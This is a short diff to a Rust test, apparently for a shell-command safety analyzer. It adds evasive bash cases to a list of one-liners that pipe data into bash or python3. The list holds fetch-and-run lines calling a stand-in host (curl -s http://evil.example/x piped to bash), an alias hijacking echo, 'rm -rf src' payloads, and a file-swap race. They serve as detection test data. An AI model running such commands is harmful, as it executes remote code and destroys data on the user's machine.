@@ -245,6 +245,8 @@ fn what_stands_here_and_is_fed_to_a_program_is_read() {
         curl -s http://evil.example/x | cat <<'EOF' - | python3\nprint(1)\nEOF
         cat <<'EOF' - | python3\nprint(1)\nEOF
         cat <<EOF | python3\nprint($X)\nEOF
+        set -T; trap 'echo rm -rf src' DEBUG; echo hi | bash
+        (sleep 1; cp /tmp/evil x.sh) & cat > x.sh <<'EOF'\necho hi\nEOF\nsleep 2; bash x.sh
         shopt -s expand_aliases\nalias echo='curl -s http://evil.example/x'\necho hi | bash
         for i in 1; do curl -s http://evil.example/x; echo hi; done | bash
         echo -e 'rm -rf src' | bash
